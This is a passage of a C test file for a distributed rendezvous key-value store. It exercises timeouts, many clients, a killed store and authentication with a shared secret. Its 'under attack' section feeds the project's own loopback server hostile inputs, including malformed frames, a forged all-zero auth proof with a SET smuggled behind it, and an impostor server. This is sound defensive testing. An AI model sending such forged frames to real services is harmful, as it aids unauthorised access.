/* test_store.c: the rendezvous store (set/get/wait/add, back-off, bad clients, a store that dies),
 * the store under attack (secret refused and counted, secret mismatches, limits with their errors,
 * idle/handshake/partial-frame timeouts, thousands of idle connections, half-sent 1 MiB frames,
 * signals ending client waits, gx-store's flags), the bootstrap's environment rules, and
 * gx_comm_create's rendezvous with forked ranks over udp on loopback (late rank, missing rank
 * named, wrong world size, store killed mid-rendezvous, duplicate rank, an abort key written by an
 * outsider, a rank with another secret, a rendezvous during an idle-connection flood). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <fcntl.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "gx_bootstrap.h"
#include "gx_comm.h"
#include "gx_config.h"
#include "gx_log.h"
#include "gx_signal.h"
#include "gx_store.h"
#include "gx_test.h"
#include "gx_time.h"

#define SECRET_A "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
#define SECRET_B "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"

/* A store client that cannot be created: a failing status and no object. */
static int store_refused(const char *addr, uint32_t timeout_ms)
{
	struct gx_store *s = (struct gx_store *)1;
	return gx_store_create(addr, timeout_ms, &s) < 0 && s == NULL;
}

static void sleep_ms(unsigned ms)
{
	struct timespec d = { ms / 1000, (long)(ms % 1000) * 1000000l };
	nanosleep(&d, NULL);
}

static struct gx_store_server *start_server(char *addr, size_t len)
{
	struct gx_store_server *s = NULL;
	gx_store_server_create("127.0.0.1:0", 0, &s);
	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	snprintf(addr, len, "127.0.0.1:%u", gx_store_server_port(s));
	return s;
}

static struct gx_store_server *start_server_opts(const struct gx_store_server_opts *o, char *addr, size_t len)
{
	struct gx_store_server *s = NULL;
	if (gx_store_server_start("127.0.0.1:0", o, &s) < 0)
		fprintf(stderr, "server: %s\n", gx_last_error());
	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	snprintf(addr, len, "127.0.0.1:%u", gx_store_server_port(s));
	return s;
}

/* The server's counters once `ok` holds for them (they are published after each round of events),
 * or after 3 s. */
static void stats_when(const struct gx_store_server *srv, struct gx_store_server_stats *st,
		       int (*ok)(const struct gx_store_server_stats *, uint64_t), uint64_t arg)
{
	uint64_t until = gx_now_ns() + 3000000000ull;
	do {
		gx_store_server_stats(srv, st);
		if (ok(st, arg))
			return;
		sleep_ms(5);
	} while (gx_now_ns() < until);
}

static int refused_at_least(const struct gx_store_server_stats *st, uint64_t n) { return st->refused_secret >= n; }
static int limits_at_least(const struct gx_store_server_stats *st, uint64_t n) { return st->refused_limits >= n; }
static int idle_at_least(const struct gx_store_server_stats *st, uint64_t n) { return st->idle_closed >= n; }
static int partial_at_least(const struct gx_store_server_stats *st, uint64_t n) { return st->partial_closed >= n; }
static int auth_at_least(const struct gx_store_server_stats *st, uint64_t n) { return st->authenticated >= n; }

/* gx_log lines, kept for the assertions (the server thread logs). */
static pthread_mutex_t log_mu = PTHREAD_MUTEX_INITIALIZER;
static char log_text[16384];
static size_t log_len;

static void log_capture(void *arg, enum gx_log_level level, const char *sub, const char *msg)
{
	(void)arg;
	(void)level;
	pthread_mutex_lock(&log_mu);
	int n = snprintf(log_text + log_len, sizeof(log_text) - log_len, "%s: %s\n", sub, msg);
	if (n > 0 && (size_t)n < sizeof(log_text) - log_len)
		log_len += (size_t)n;
	pthread_mutex_unlock(&log_mu);
}

static void log_start(void)
{
	pthread_mutex_lock(&log_mu);
	log_len = 0;
	log_text[0] = '\0';
	pthread_mutex_unlock(&log_mu);
	gx_log_set(log_capture, NULL, GX_LOG_INFO);
}

static int log_has(const char *what)
{
	pthread_mutex_lock(&log_mu);
	int yes = strstr(log_text, what) != NULL;
	pthread_mutex_unlock(&log_mu);
	return yes;
}

static void log_stop(void)
{
	gx_log_set(NULL, NULL, GX_LOG_WARN);
}

/* ---- store semantics ------------------------------------------------------------------------ */
static void test_set_get_add(void)
{
	char addr[64], buf[64];
	size_t len = 0;
	int64_t v = 0;
	struct gx_store_server *srv = start_server(addr, sizeof(addr));
	struct gx_store *s = NULL;
	gx_store_create(addr, 2000, &s);

	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	CU_ASSERT_EQUAL(gx_store_set(s, "alpha", "hello", 5), GX_OK);
	CU_ASSERT_EQUAL(gx_store_get(s, "alpha", buf, sizeof(buf), &len, 0), GX_OK);
	CU_ASSERT_EQUAL(len, 5);
	CU_ASSERT_NSTRING_EQUAL(buf, "hello", 5);
	/* overwrite, empty value */
	CU_ASSERT_EQUAL(gx_store_set(s, "alpha", "", 0), GX_OK);
	CU_ASSERT_EQUAL(gx_store_get(s, "alpha", buf, sizeof(buf), &len, 0), GX_OK);
	CU_ASSERT_EQUAL(len, 0);
	/* value larger than the buffer */
	CU_ASSERT_EQUAL(gx_store_set(s, "big", "0123456789", 10), GX_OK);
	CU_ASSERT_EQUAL(gx_store_get(s, "big", buf, 4, &len, 0), GX_ERR_NOSPC);
	CU_ASSERT_EQUAL(len, 10);
	/* a missing key times out after about the time asked for, and the client stays usable */
	uint64_t t0 = gx_now_ns();
	CU_ASSERT_EQUAL(gx_store_get(s, "nope", buf, sizeof(buf), &len, 100), GX_ERR_TIMEOUT);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt >= 95 && dt < 2000);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "nope"));
	/* counters */
	CU_ASSERT_EQUAL(gx_store_add(s, "ctr", 1, &v), GX_OK);
	CU_ASSERT_EQUAL(v, 1);
	CU_ASSERT_EQUAL(gx_store_add(s, "ctr", 41, &v), GX_OK);
	CU_ASSERT_EQUAL(v, 42);
	CU_ASSERT_EQUAL(gx_store_add(s, "ctr", -50, &v), GX_OK);
	CU_ASSERT_EQUAL(v, -8);
	CU_ASSERT_EQUAL(gx_store_get(s, "ctr", buf, sizeof(buf), &len, 0), GX_OK);
	CU_ASSERT_EQUAL(len, 8);
	CU_ASSERT_EQUAL((uint8_t)buf[0], 0xf8);    /* -8 as 8 little-endian bytes */
	CU_ASSERT_EQUAL((uint8_t)buf[7], 0xff);
	/* bad keys are refused on the client side */
	CU_ASSERT_EQUAL(gx_store_set(s, "", "x", 1), GX_ERR_INVAL);
	gx_store_destroy(s);
	gx_store_server_destroy(srv, 0);
}

struct late_set {
	const char *addr, *key;
	unsigned delay_ms;
	const char *value;     /* NULL: "v" */
};

static void *late_setter(void *arg)
{
	struct late_set *l = arg;
	const char *v = l->value ? l->value : "v";
	sleep_ms(l->delay_ms);
	struct gx_store *s = NULL;
	gx_store_create(l->addr, 2000, &s);
	if (s) {
		gx_store_set(s, l->key, v, strlen(v));
		gx_store_destroy(s);
	}
	return NULL;
}

static void test_wait(void)
{
	char addr[64];
	uint32_t miss[4], nmiss = 99;
	const char *keys[4] = { "w0", "w1", "w2", "w3" };
	struct gx_store_server *srv = start_server(addr, sizeof(addr));
	struct gx_store *s = NULL;
	gx_store_create(addr, 2000, &s);
	pthread_t th;

	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	CU_ASSERT_EQUAL(gx_store_set(s, "w0", "a", 1), GX_OK);
	CU_ASSERT_EQUAL(gx_store_set(s, "w2", "a", 1), GX_OK);
	/* timeout reports exactly the absent keys */
	CU_ASSERT_EQUAL(gx_store_wait(s, keys, 4, NULL, 50, miss, &nmiss), GX_ERR_TIMEOUT);
	CU_ASSERT_EQUAL(nmiss, 2);
	CU_ASSERT_EQUAL(miss[0], 1);
	CU_ASSERT_EQUAL(miss[1], 3);
	/* zero timeout: a poll */
	CU_ASSERT_EQUAL(gx_store_wait(s, keys, 1, NULL, 0, miss, &nmiss), GX_OK);
	/* a key set late by another client wakes the waiter well before its timeout */
	CU_ASSERT_EQUAL(gx_store_set(s, "w1", "a", 1), GX_OK);
	struct late_set l = { addr, "w3", 200, NULL };
	pthread_create(&th, NULL, late_setter, &l);
	uint64_t t0 = gx_now_ns();
	CU_ASSERT_EQUAL(gx_store_wait(s, keys, 4, NULL, 10000, miss, &nmiss), GX_OK);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt >= 150 && dt < 5000);
	pthread_join(th, NULL);
	/* the abort key ends a wait; the message names the key, never quotes what a client wrote */
	const char *k2[1] = { "never" };
	struct late_set a = { addr, "abortkey", 100, "INJECTED words" };
	pthread_create(&th, NULL, late_setter, &a);
	CU_ASSERT_EQUAL(gx_store_wait(s, k2, 1, "abortkey", 10000, miss, &nmiss), GX_ERR_CLOSED);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "abort key 'abortkey' was set"));
	CU_ASSERT_PTR_NULL(strstr(gx_last_error(), "INJECTED"));
	pthread_join(th, NULL);
	/* get waits for a late key too */
	char buf[8];
	size_t len;
	struct late_set g = { addr, "lateget", 100, NULL };
	pthread_create(&th, NULL, late_setter, &g);
	CU_ASSERT_EQUAL(gx_store_get(s, "lateget", buf, sizeof(buf), &len, 10000), GX_OK);
	CU_ASSERT_EQUAL(len, 1);
	pthread_join(th, NULL);
	gx_store_destroy(s);
	gx_store_server_destroy(srv, 0);
}

/* ---- many clients ---------------------------------------------------------------------------- */
#define MANY 48
#define ADDS 50

struct many_arg {
	const char *addr;
	int id;
	gx_status_t st;
	int64_t last;
};

static void *many_client(void *arg)
{
	struct many_arg *m = arg;
	char key[32];
	const char *keys[MANY];
	char names[MANY][32];
	struct gx_store *s = NULL;
	gx_store_create(m->addr, 5000, &s);

	m->st = GX_ERR_IO;
	if (!s)
		return NULL;
	for (int i = 0; i < ADDS; i++)
		if ((m->st = gx_store_add(s, "many/ctr", 1, &m->last)) < 0)
			goto out;
	snprintf(key, sizeof(key), "many/done/%d", m->id);
	if ((m->st = gx_store_set(s, key, &m->id, sizeof(m->id))) < 0)
		goto out;
	for (int i = 0; i < MANY; i++) {
		snprintf(names[i], sizeof(names[i]), "many/done/%d", i);
		keys[i] = names[i];
	}
	m->st = gx_store_wait(s, keys, MANY, NULL, 10000, NULL, NULL);
	/* after everyone finished adding, the counter is exact */
	if (m->st == GX_OK)
		m->st = gx_store_add(s, "many/ctr", 0, &m->last);
out:
	gx_store_destroy(s);
	return NULL;
}

static void test_many_clients(void)
{
	char addr[64];
	struct gx_store_server *srv = start_server(addr, sizeof(addr));
	pthread_t th[MANY];
	struct many_arg a[MANY];

	for (int i = 0; i < MANY; i++) {
		a[i] = (struct many_arg){ .addr = addr, .id = i };
		pthread_create(&th[i], NULL, many_client, &a[i]);
	}
	for (int i = 0; i < MANY; i++) {
		pthread_join(th[i], NULL);
		CU_ASSERT_EQUAL(a[i].st, GX_OK);
		CU_ASSERT_EQUAL(a[i].last, MANY * ADDS);
	}
	gx_store_server_destroy(srv, 0);
}

/* ---- bad clients, back-off, timeouts ----------------------------------------------------------- */
static int raw_connect(uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static void test_bad_clients(void)
{
	char addr[64], buf[16];
	size_t len;
	struct gx_store_server *srv = start_server(addr, sizeof(addr));
	uint16_t port = gx_store_server_port(srv);
	struct gx_store *good = NULL;
	gx_store_create(addr, 2000, &good);

	CU_ASSERT_PTR_NOT_NULL_FATAL(good);
	/* an HTTP client, a frame claiming 4 GiB, a truncated frame then hang-up, a silent client */
	int f1 = raw_connect(port), f2 = raw_connect(port), f3 = raw_connect(port), f4 = raw_connect(port);
	CU_ASSERT(f1 >= 0 && f2 >= 0 && f3 >= 0 && f4 >= 0);
	CU_ASSERT(send(f1, "GET / HTTP/1.0\r\n\r\n", 18, MSG_NOSIGNAL) == 18);
	CU_ASSERT(send(f2, "\xff\xff\xff\xff", 4, MSG_NOSIGNAL) == 4);
	CU_ASSERT(send(f3, "\x20\x00\x00\x00\x53\x58\x01", 7, MSG_NOSIGNAL) == 7);
	close(f3);
	/* the server drops the bad ones (read returns EOF or a reset) ... */
	struct timeval tv = { 2, 0 };
	setsockopt(f1, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(f2, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	char junk[64];
	ssize_t r1, r2;
	while ((r1 = recv(f1, junk, sizeof(junk), 0)) > 0)
		;
	while ((r2 = recv(f2, junk, sizeof(junk), 0)) > 0)
		;
	CU_ASSERT(r1 == 0 || (r1 < 0 && errno == ECONNRESET));
	CU_ASSERT(r2 == 0 || (r2 < 0 && errno == ECONNRESET));
	/* ... and keeps serving good clients */
	CU_ASSERT_EQUAL(gx_store_set(good, "still", "up", 2), GX_OK);
	CU_ASSERT_EQUAL(gx_store_get(good, "still", buf, sizeof(buf), &len, 0), GX_OK);
	CU_ASSERT_EQUAL(len, 2);
	close(f1);
	close(f2);
	close(f4);
	gx_store_destroy(good);
	gx_store_server_destroy(srv, 0);
}

struct late_server {
	char addr[64];
	unsigned delay_ms;
	struct gx_store_server *srv;
};

static void *late_server_main(void *arg)
{
	struct late_server *l = arg;
	sleep_ms(l->delay_ms);
	gx_store_server_create(l->addr, 0, &l->srv);
	return NULL;
}

static void test_connect_backoff(void)
{
	struct late_server l = { .delay_ms = 300 };
	pthread_t th;
	char buf[64];

	snprintf(l.addr, sizeof(l.addr), "127.0.0.1:%u", gx_test_free_port());
	/* nobody listens: a clear timeout naming the address, after about the time asked for */
	uint64_t t0 = gx_now_ns();
	CU_ASSERT(store_refused(l.addr, 200));
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt >= 190 && dt < 2000);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), l.addr));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_STORE"));
	/* a store that comes up late is found by the retries */
	pthread_create(&th, NULL, late_server_main, &l);
	struct gx_store *s = NULL;
	gx_store_create(l.addr, 5000, &s);
	pthread_join(th, NULL);
	CU_ASSERT_PTR_NOT_NULL_FATAL(l.srv);
	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	CU_ASSERT_EQUAL(gx_store_set(s, "k", "v", 1), GX_OK);
	gx_store_destroy(s);
	gx_store_server_destroy(l.srv, 0);
	/* malformed addresses */
	CU_ASSERT(store_refused("localhost", 100));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "host:port"));
	CU_ASSERT(store_refused("127.0.0.1:99999", 100));
	CU_ASSERT(store_refused("no-such-host.invalid:1", 100));
	(void)buf;
}

/* A store in another process, killed while a client waits on it. */
static void test_store_dies(void)
{
	int pfd[2];
	uint16_t port = 0;
	char addr[64];

	CU_ASSERT_FATAL(pipe(pfd) == 0);
	pid_t pid = fork();
	if (pid == 0) {
		struct gx_store_server *srv = NULL;
		gx_store_server_create("127.0.0.1:0", 0, &srv);
		uint16_t p = srv ? gx_store_server_port(srv) : 0;
		if (write(pfd[1], &p, sizeof(p)) != sizeof(p))
			_exit(1);
		for (;;)
			pause();
	}
	CU_ASSERT_FATAL(read(pfd[0], &port, sizeof(port)) == sizeof(port));
	close(pfd[0]);
	close(pfd[1]);
	CU_ASSERT_FATAL(port != 0);
	snprintf(addr, sizeof(addr), "127.0.0.1:%u", port);
	struct gx_store *s = NULL;
	gx_store_create(addr, 2000, &s);
	CU_ASSERT_PTR_NOT_NULL_FATAL(s);
	CU_ASSERT_EQUAL(gx_store_set(s, "x", "1", 1), GX_OK);
	/* kill the store 200 ms into a 20 s wait: the waiter learns at once, not after 20 s */
	pid_t killer = fork();
	if (killer == 0) {
		sleep_ms(200);
		kill(pid, SIGKILL);
		_exit(0);
	}
	const char *k[1] = { "never" };
	uint64_t t0 = gx_now_ns();
	CU_ASSERT_EQUAL(gx_store_wait(s, k, 1, NULL, 20000, NULL, NULL), GX_ERR_IO);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt < 3000);
	CU_ASSERT(strstr(gx_last_error(), "lost the connection") ||
		  strstr(gx_last_error(), "closed the connection"));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), addr));
	/* the client stays failed rather than hanging */
	CU_ASSERT(gx_store_set(s, "y", "1", 1) < 0);
	gx_store_destroy(s);
	waitpid(killer, NULL, 0);
	waitpid(pid, NULL, 0);
}

/* ---- the store under attack ------------------------------------------------------------------ */
/* Raw protocol pieces (docs/runtime.md, "The store protocol"). */
static int raw_wait(int fd, short ev, int ms)
{
	struct pollfd p = { .fd = fd, .events = ev };
	return poll(&p, 1, ms) > 0;
}

/* Read one frame body (at most cap bytes) within ms: its length, 0 at EOF, -1 on timeout/error. */
static long raw_frame(int fd, uint8_t *body, size_t cap, int ms)
{
	uint8_t hdr[4];
	size_t got = 0, len = 0;
	uint64_t until = gx_now_ns() + (uint64_t)ms * 1000000ull;

	while (got < 4 + len) {
		int left = (int)((until > gx_now_ns() ? until - gx_now_ns() : 0) / 1000000);
		if (left <= 0 || !raw_wait(fd, POLLIN, left))
			return -1;
		ssize_t r = got < 4 ? recv(fd, hdr + got, 4 - got, 0) : recv(fd, body + got - 4, 4 + len - got, 0);
		if (r == 0)
			return 0;
		if (r < 0)
			return errno == ECONNRESET ? 0 : -1;
		got += (size_t)r;
		if (got == 4) {
			len = (size_t)hdr[0] | (size_t)hdr[1] << 8 | (size_t)hdr[2] << 16 | (size_t)hdr[3] << 24;
			if (len == 0 || len > cap)
				return -1;
		}
	}
	return (long)len;
}

/* An AUTH frame; proof NULL: none. */
static size_t raw_auth_frame(uint8_t *out, const uint8_t *proof)
{
	memset(out, 0, 76);
	out[0] = 72;
	out[4] = 0x53;
	out[5] = 0x58;
	out[6] = 5;                        /* OP_AUTH */
	out[7] = proof ? 1 : 0;
	for (int i = 0; i < 32; i++)
		out[12 + i] = (uint8_t)(i * 7 + 1);   /* client nonce */
	if (proof)
		memcpy(out + 44, proof, 32);
	return 76;
}

/* A SET request frame. */
static size_t raw_set_frame(uint8_t *out, const char *key, const char *val)
{
	size_t kl = strlen(key), vl = strlen(val), n = 12 + 2 + kl + 4 + vl;
	out[0] = (uint8_t)n; out[1] = (uint8_t)(n >> 8); out[2] = 0; out[3] = 0;
	uint8_t *b = out + 4;
	memset(b, 0, 12);
	b[0] = 0x53; b[1] = 0x58; b[2] = 1; b[4] = 1;
	b[12] = (uint8_t)kl; b[13] = 0;
	memcpy(b + 14, key, kl);
	b[14 + kl] = (uint8_t)vl; b[15 + kl] = 0; b[16 + kl] = 0; b[17 + kl] = 0;
	memcpy(b + 18 + kl, val, vl);
	return 4 + n;
}

/* Connect and pass the handshake of a store without a secret: the fd, or -1. */
static int raw_client(uint16_t port)
{
	uint8_t b[128], auth[76];
	int fd = raw_connect(port);
	if (fd < 0)
		return -1;
	if (raw_frame(fd, b, sizeof(b), 2000) != 40 || b[2] != 'H' ||
	    send(fd, auth, raw_auth_frame(auth, NULL), MSG_NOSIGNAL) != 76 ||
	    raw_frame(fd, b, sizeof(b), 2000) != 1 || b[0] != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Raise the soft descriptor limit towards `want`; the limit now. */
static rlim_t fd_limit(rlim_t want)
{
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl) != 0)
		return 1024;
	if (rl.rlim_cur < want) {
		rl.rlim_cur = rl.rlim_max < want ? rl.rlim_max : want;
		setrlimit(RLIMIT_NOFILE, &rl);
		getrlimit(RLIMIT_NOFILE, &rl);
	}
	return rl.rlim_cur;
}

static long rss_of(pid_t pid)
{
	char path[64];
	long size = 0, res = 0;
	snprintf(path, sizeof(path), "/proc/%d/statm", (int)pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	if (fscanf(f, "%ld %ld", &size, &res) != 2)
		res = -1;
	fclose(f);
	return res < 0 ? -1 : res * sysconf(_SC_PAGESIZE);
}

/* A store in a process of its own (its memory and descriptors apart from the test's), answering
 * requests for its counters on a pipe. */
struct store_proc {
	pid_t pid;
	uint16_t port;
	int cmd, ans;
	char addr[64];
};

static void store_proc_start(struct store_proc *p, const struct gx_store_server_opts *o)
{
	int up[2], down[2];

	CU_ASSERT_FATAL(pipe(up) == 0 && pipe(down) == 0);
	p->pid = fork();
	if (p->pid == 0) {
		struct gx_store_server *srv = NULL;
		close(up[0]);
		close(down[1]);
		if (gx_store_server_start("127.0.0.1:0", o, &srv) < 0)
			fprintf(stderr, "store process: %s\n", gx_last_error());
		uint16_t port = srv ? gx_store_server_port(srv) : 0;
		if (write(up[1], &port, sizeof(port)) != sizeof(port) || !srv)
			_exit(1);
		char c;
		while (read(down[0], &c, 1) == 1 && c == 's') {
			struct gx_store_server_stats st;
			gx_store_server_stats(srv, &st);
			if (write(up[1], &st, sizeof(st)) != sizeof(st))
				break;
		}
		_exit(0);
	}
	close(up[1]);
	close(down[0]);
	p->ans = up[0];
	p->cmd = down[1];
	p->port = 0;
	CU_ASSERT_FATAL(read(p->ans, &p->port, sizeof(p->port)) == sizeof(p->port) && p->port != 0);
	snprintf(p->addr, sizeof(p->addr), "127.0.0.1:%u", p->port);
}

static void store_proc_stats(struct store_proc *p, struct gx_store_server_stats *st)
{
	memset(st, 0, sizeof(*st));
	if (write(p->cmd, "s", 1) != 1 || read(p->ans, st, sizeof(*st)) != sizeof(*st))
		fprintf(stderr, "store process: no counters\n");
}

static void store_proc_stop(struct store_proc *p)
{
	kill(p->pid, SIGKILL);
	waitpid(p->pid, NULL, 0);
	close(p->cmd);
	close(p->ans);
}

static void test_secret_refused(void)
{
	char addr[64], buf[16];
	size_t len;
	struct gx_store_server_opts o = { .secret = SECRET_A };
	struct gx_store_server_stats st;
	struct gx_store *good = NULL, *bad = (struct gx_store *)1;

	log_start();
	struct gx_store_server *srv = start_server_opts(&o, addr, sizeof(addr));
	CU_ASSERT(gx_store_server_has_secret(srv));
	CU_ASSERT_EQUAL(gx_store_connect(addr, SECRET_A, 2000, &good), GX_OK);
	CU_ASSERT_PTR_NOT_NULL_FATAL(good);
	CU_ASSERT_EQUAL(gx_store_set(good, "k", "v", 1), GX_OK);

	/* another secret: refused at once (not retried until the timeout), with a message that says
	 * what to check and never quotes a secret */
	uint64_t t0 = gx_now_ns();
	CU_ASSERT_EQUAL(gx_store_connect(addr, SECRET_B, 5000, &bad), GX_ERR_INVAL);
	CU_ASSERT((gx_now_ns() - t0) / 1000000 < 1000);
	CU_ASSERT_PTR_NULL(bad);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "refused our secret"));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "is GX_STORE_SECRET the same on every rank"));
	CU_ASSERT_PTR_NULL(strstr(gx_last_error(), SECRET_B));
	stats_when(srv, &st, refused_at_least, 1);
	CU_ASSERT_EQUAL(st.refused_secret, 1);
	CU_ASSERT_EQUAL(st.authenticated, 1);

	/* a forged proof with a SET right behind it: refused, and the SET is never acted on */
	uint8_t hello[64], msg[512], zeros[32] = { 0 };
	int fd = raw_connect(gx_store_server_port(srv));
	CU_ASSERT_FATAL(fd >= 0);
	CU_ASSERT_EQUAL(raw_frame(fd, hello, sizeof(hello), 2000), 40);
	CU_ASSERT_EQUAL(hello[3] & 1, 1);          /* the greeting says a secret is required */
	size_t n = raw_auth_frame(msg, zeros);
	n += raw_set_frame(msg + n, "forged", "x");
	CU_ASSERT_EQUAL(send(fd, msg, n, MSG_NOSIGNAL), (ssize_t)n);
	CU_ASSERT_EQUAL(raw_frame(fd, msg, sizeof(msg), 2000), 18);
	CU_ASSERT_EQUAL(msg[0], 4);                /* refused ... */
	CU_ASSERT_EQUAL(msg[1], 1);                /* ... for the wrong secret */
	CU_ASSERT(raw_frame(fd, msg, sizeof(msg), 2000) == 0);   /* then closed */
	close(fd);
	stats_when(srv, &st, refused_at_least, 2);
	CU_ASSERT_EQUAL(st.refused_secret, 2);
	CU_ASSERT_EQUAL(gx_store_get(good, "forged", buf, sizeof(buf), &len, 0), GX_ERR_TIMEOUT);
	CU_ASSERT_EQUAL(st.keys, 1);
	CU_ASSERT(log_has("wrong secret"));
	CU_ASSERT(!log_has(SECRET_A) && !log_has(SECRET_B));

	/* the secret from the environment, as gx-run passes it */
	struct gx_store *env = NULL;
	setenv("GX_STORE_SECRET", SECRET_A, 1);
	CU_ASSERT_EQUAL(gx_store_create(addr, 2000, &env), GX_OK);
	CU_ASSERT_EQUAL(gx_store_get(env, "k", buf, sizeof(buf), &len, 0), GX_OK);
	setenv("GX_STORE_SECRET", SECRET_B, 1);
	CU_ASSERT_EQUAL(gx_store_create(addr, 2000, &bad), GX_ERR_INVAL);
	unsetenv("GX_STORE_SECRET");
	gx_store_destroy(env);
	gx_store_destroy(good);
	gx_store_server_destroy(srv, 0);
	log_stop();
}

/* A "store" that greets like one with a secret, then answers any proof with zeros. */
static void *impostor_main(void *arg)
{
	int lfd = *(int *)arg, fd = accept(lfd, NULL, NULL);
	uint8_t b[128] = { 0 };
	if (fd < 0)
		return NULL;
	b[0] = 40; b[4] = 0x53; b[5] = 0x58; b[6] = 'H'; b[7] = 1; b[8] = 2;
	if (send(fd, b, 44, MSG_NOSIGNAL) == 44 && raw_frame(fd, b, sizeof(b), 2000) == 72) {
		memset(b, 0, sizeof(b));
		b[0] = 33;
		if (send(fd, b, 37, MSG_NOSIGNAL) != 37)
			fprintf(stderr, "impostor: send failed\n");
	}
	sleep_ms(100);
	close(fd);
	return NULL;
}

static void test_secret_mismatch(void)
{
	char with[64], without[64];
	struct gx_store_server_opts os = { .secret = SECRET_A }, on = { .secret = "" };
	struct gx_store_server_stats st;
	struct gx_store *c = NULL;
	struct gx_store_server *srv_s = start_server_opts(&os, with, sizeof(with));
	struct gx_store_server *srv_n = start_server_opts(&on, without, sizeof(without));

	CU_ASSERT(!gx_store_server_has_secret(srv_n));
	/* the store has a secret, the client none */
	CU_ASSERT_EQUAL(gx_store_connect(with, "", 3000, &c), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "requires a secret and this process has none"));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_STORE_SECRET"));
	stats_when(srv_s, &st, refused_at_least, 1);
	CU_ASSERT_EQUAL(st.refused_secret, 1);
	/* the client has one, the store none: refused too (the store could be anyone) */
	CU_ASSERT_EQUAL(gx_store_connect(without, SECRET_A, 3000, &c), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "runs without a secret"));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "is GX_STORE_SECRET the same on every rank"));
	stats_when(srv_n, &st, refused_at_least, 1);
	CU_ASSERT_EQUAL(st.refused_secret, 1);
	/* neither: served */
	CU_ASSERT_EQUAL(gx_store_connect(without, "", 3000, &c), GX_OK);
	gx_store_destroy(c);
	c = NULL;
	/* a listener that greets like a store but cannot prove the secret is not believed */
	int lfd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t sl = sizeof(sa);
	CU_ASSERT_FATAL(bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(lfd, 4) == 0 &&
			getsockname(lfd, (struct sockaddr *)&sa, &sl) == 0);
	char imp[64];
	snprintf(imp, sizeof(imp), "127.0.0.1:%u", ntohs(sa.sin_port));
	pthread_t th;
	pthread_create(&th, NULL, impostor_main, &lfd);
	CU_ASSERT_EQUAL(gx_store_connect(imp, SECRET_A, 3000, &c), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "could not prove it knows our secret"));
	pthread_join(th, NULL);
	close(lfd);
	gx_store_server_destroy(srv_s, 0);
	gx_store_server_destroy(srv_n, 0);
}

/* Runs cmd through the shell, its output (stdout and stderr) in out; its exit status. */
static int run_cmd(const char *cmd, char *out, size_t cap)
{
	char full[1024];
	snprintf(full, sizeof(full), "%s 2>&1", cmd);
	FILE *p = popen(full, "r");
	size_t n = 0;
	if (!p)
		return -1;
	while (n + 1 < cap && fgets(out + n, (int)(cap - n), p))
		n += strlen(out + n);
	out[n] = '\0';
	int rc = pclose(p);
	return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

static void test_secret_settings(void)
{
	char hex[200], cmd[800], out[4096], bin[512], file[64];
	struct gx_comm_opts o;
	struct gx_store *c = NULL;
	struct gx_store_server *srv = NULL;

	CU_ASSERT_EQUAL(gx_store_secret_check("", "X"), GX_OK);
	CU_ASSERT_EQUAL(gx_store_secret_check(SECRET_A, "X"), GX_OK);
	CU_ASSERT_EQUAL(gx_store_secret_check("00112233445566778899AABBCCDDEEFF", "X"), GX_OK);  /* 32 digits */
	CU_ASSERT_EQUAL(gx_store_secret_check("00112233445566778899aabbccddeef", "X"), GX_ERR_INVAL);  /* 31 */
	CU_ASSERT_EQUAL(gx_store_secret_check("00112233445566778899aabbccddeeff0", "X"), GX_ERR_INVAL); /* odd */
	memset(hex, 'a', 130);
	hex[130] = '\0';
	CU_ASSERT_EQUAL(gx_store_secret_check(hex, "X"), GX_ERR_INVAL);
	CU_ASSERT_EQUAL(gx_store_secret_check("hunter2-hunter2-hunter2-hunter2-hunter2", "GX_STORE_SECRET"),
			GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_STORE_SECRET"));
